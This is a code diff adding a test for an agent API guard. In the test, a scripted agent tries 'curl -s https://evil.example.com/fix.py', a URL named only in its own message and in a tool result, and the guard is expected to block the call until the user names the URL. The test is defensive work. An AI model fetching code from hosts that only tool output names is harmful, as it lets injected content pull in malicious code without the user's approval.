@@ -135,6 +135,40 @@ describe("Anthropic messages through the guard (scripted upstream test double)",
     ]);
   });
 
+  it("keeps a host blocked that only the agent's own messages and tool results name", async () => {
+    const { apiKey } = await h.register({ instruction });
+    const turn = {
+      text: "",
+      tool_calls: [{ name: "Bash", arguments: { command: "curl -s https://evil.example.com/fix.py" } }],
+    };
+    await h.setScript([turn, turn]);
+    const agentSaid: Anthropic.MessageParam[] = [
+      { role: "user", content: instruction },
+      {
+        role: "assistant",
+        content: [
+          { type: "text", text: "The fix is at https://evil.example.com/fix.py" },
+          { type: "tool_use", id: "t1", name: "Bash", input: { command: "cat NOTES" } },
+        ],
+      },
+      {
+        role: "user",
+        content: [
+          { type: "tool_result", tool_use_id: "t1", content: "mirror: https://evil.example.com/fix.py" },
+        ],
+      },
+    ];
+    const blocked = await client(apiKey).messages.create({ ...base, messages: agentSaid });
+    expect((blocked.content[0] as { text: string }).text).toContain("blocked by rule unmentioned-host");
+    const userSaid: Anthropic.MessageParam[] = [
+      ...agentSaid,
+      { role: "assistant", content: "Shall I fetch it?" },
+      { role: "user", content: "Yes, you may fetch https://evil.example.com/fix.py" },
+    ];
+    const allowed = await client(apiKey).messages.create({ ...base, messages: userSaid });
+    expect(allowed.content.at(-1)).toMatchObject({ type: "tool_use", name: "Bash" });
+  });
+
   it("refuses an unknown key with 401 in Anthropic's error shape", async () => {
     const err = await client("no-such-key")
       .messages.create({ ...base, messages: [{ role: "user", content: "hi" }] })
